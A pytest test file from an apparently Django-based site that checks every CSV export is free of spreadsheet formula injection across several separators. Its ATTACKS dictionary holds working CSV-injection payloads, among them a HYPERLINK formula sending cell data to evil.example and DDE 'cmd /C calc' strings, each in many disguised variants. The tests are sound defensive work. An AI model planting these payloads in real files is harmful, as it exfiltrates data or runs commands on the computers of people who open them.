"""No CSV file of this site is a formula to a spreadsheet, whatever separator it splits by.

``spreadsheet_cells`` reads as spreadsheets do: a quote counts where it begins a cell and is an
ordinary character elsewhere, so that a file of commas falls apart at the semicolons inside it.
"""

import csv
import io
import json

import pytest
from asgiref.sync import sync_to_async
from django.test import AsyncClient

from instances import audit
from instances.access import charters
from instances.audit import Action
from instances.models import Organisation
from tests import factories
from tests.cast import Cast, make_cast
from tests.evaluation.factories import GoldenQuestionFactory
from tests.site_map import ALL_PAGES, Page, values_inside
from tests.usage.factories import DailyUsageFactory, UsageRecordFactory
from web.csv_files import csv_lines

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"ok")'
ATTACKS = {
    "plain": FORMULA,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": f"\t{FORMULA}",
    "return first": f"\r{FORMULA}",
    "newline first": f"\n{FORMULA}",
    "space first": f"  {FORMULA}",
    "no-break space first": f"\u00a0{FORMULA}",
    "wide": "＝1+1",
    "behind a semicolon": f"Jean;{FORMULA}",
    "behind a comma": f"Jean,{FORMULA}",
    "behind a tab": f"Jean\t{FORMULA}",
    "behind a newline": f"Jean\n{FORMULA}",
    "behind a return": f"Jean\r{FORMULA}",
    "behind a bar": f"Jean|{FORMULA}",
    "behind a semicolon and a space": f"Jean; {FORMULA}",
    "quoted behind a semicolon": f'Jean;"{FORMULA}"',
    "behind a semicolon and an apostrophe": f"Jean;'{FORMULA}",
    "behind two semicolons": f"Jean;;{FORMULA}",
    "behind an open quote": f'Jean";{FORMULA}',
}
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}
CSV_PAGES = {
    f"administration:{level}_{page}"
    for level in ("site", "organisation", "instance")
    for page in ("audit_export", "charter_acceptances")
} | {"chat:ratings_export", "evaluation:golden_export"}
# Files of usage. Those about several instances name only groups of five people or more.
OWN_USAGE_PAGES = {
    "administration:instance_usage_export",
    "administration:own_usage_export",
    "administration:person_usage_export",
}
MASKED_PAGES = {
    "administration:organisation_usage_export",
    "administration:site_usage_export",
    "administration:organisation_observatory_export",
    "administration:site_observatory_export",
    "administration:statement_export",
}
# The bytes that somebody uploaded, as they are.
UPLOADED = {"ingestion:file"}


def spreadsheet_cells(text: str, separator: str) -> list[str]:
    """Every cell that a spreadsheet which splits by ``separator`` sees in a file."""
    lines = io.StringIO(text.removeprefix("\ufeff"), newline="")
    quoted = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
    # One that knows no quotes inside a line ends a row at every line break.
    unquoted = [
        cell.strip(' "')
        for line in text.removeprefix("\ufeff").splitlines()
        for cell in line.split(separator)
    ]
    return quoted + unquoted


def is_formula(cell: str) -> bool:
    return cell.strip(' \u00a0"')[:1] in {*"=+-@＝＋－＠"} - {""}


@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS.keys())
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_cell_becomes_a_formula(attack, separator):
    text = csv_lines([["first", attack, "between", attack], [attack, None, 7]])
    assert [cell for cell in spreadsheet_cells(text, separator) if is_formula(cell)] == []


def test_ordinary_cells_stay_as_they_are():
    cells = [
        "Jean-Pierre",
        "2026-11-28T10:00:00+01:00",
        "a@b.example",
        "l’an 1 = 2",
        None,
        7,
        "; a",
    ]
    (row,) = csv.reader(io.StringIO(csv_lines([cells]), newline=""))
    assert row == [*cells[:4], "", "7", "; a"]


@pytest.fixture
def hostile(transactional_db) -> tuple[Cast, dict[str, object]]:
    """A site in which whatever a person may write is an attack; the owner may read it all."""
    cast = make_cast()
    values = values_inside(cast)
    texts = list(ATTACKS.values())
    cast.owner.is_staff = True
    cast.owner.save()
    cast.teammate.first_name, cast.teammate.last_name = texts[10], texts[0]
    cast.teammate.email = f'"{texts[10][:40]}"@evil.example'
    cast.teammate.save()
    Organisation.objects.filter(pk=cast.instance.organisation_id).update(name=texts[10])
    cast.instance.organisation.administrators.create(user=cast.owner)
    cast.instance.name = texts[10]
    cast.instance.save()
    with audit.acting_as(audit.Origin(user=cast.teammate, address="192.0.2.1")):
        for place in (
            {"instance": cast.instance},
            {"organisation": cast.instance.organisation},
            {},
        ):
            audit.record_all(Action.MEMBER_LOST, texts, reason=texts, **place)
    for level in ({"instance": cast.instance}, {"organisation": cast.instance.organisation}, {}):
        version = charters.publish(text_fr="Lisez.", text_en="", user_id=None, **level)
        charters.accept(user_id=cast.teammate.pk, charters=[version])
        charters.accept(user_id=cast.owner.pk, charters=[version])
        values["number"] = version.version
    for number, text in enumerate(texts):
        factories.FeedbackFactory(instance=cast.instance, comment=text)
        UsageRecordFactory(instance=cast.instance, user=cast.owner, model=text)
        DailyUsageFactory(instance=cast.instance, model=text)
        # Some texts differ by their spaces only, which do not count in a digest.
        expected = {"document_name": text, "must_be_refused": False, "digest": str(number)}
        GoldenQuestionFactory(instance=cast.instance, question=text, **expected)
    return cast, values


async def body(response) -> str:
    if not response.streaming:
        return response.content.decode()
    return b"".join([piece async for piece in response.streaming_content]).decode()


async def get(client: AsyncClient, page: Page, values: dict[str, object]) -> tuple[str, str]:
    """The media type of a page, and its text when it is CSV."""
    response = await client.get(page.path(values))
    kind = response.get("Content-Type", "").partition(";")[0]
    return kind, await body(response) if kind == "text/csv" else ""


async def test_every_csv_file_of_the_site_is_free_of_formulas(hostile, async_client_for):
    cast, values = hostile
    client = await sync_to_async(async_client_for)(cast.owner)
    found = set()
    for page in ALL_PAGES:
        if page.name in UPLOADED or page.name.startswith("admin:"):
            continue
        kind, text = await get(client, page, values)
        if kind != "text/csv":
            continue
        found.add(page.name)
        assert "HYPERLINK" in text or page.name in MASKED_PAGES
        for separator in SEPARATORS.values():
            formulas = [cell for cell in spreadsheet_cells(text, separator) if is_formula(cell)]
            assert formulas == [], page.name
    assert found == CSV_PAGES | OWN_USAGE_PAGES | MASKED_PAGES


async def test_json_lines_are_exact(hostile, async_client_for):
    cast, values = hostile
    client = await sync_to_async(async_client_for)(cast.owner)
    (page,) = (page for page in ALL_PAGES if page.name == "administration:instance_audit_export")
    text = await body(
        await client.get(page.path(values | {"kind": "jsonl"}), {"action": "member.lost"})
    )
    entries = [json.loads(line) for line in text.splitlines()]
    assert {entry["target"] for entry in entries} == set(ATTACKS.values())
    assert entries[0]["detail"] == {"reason": list(ATTACKS.values())}
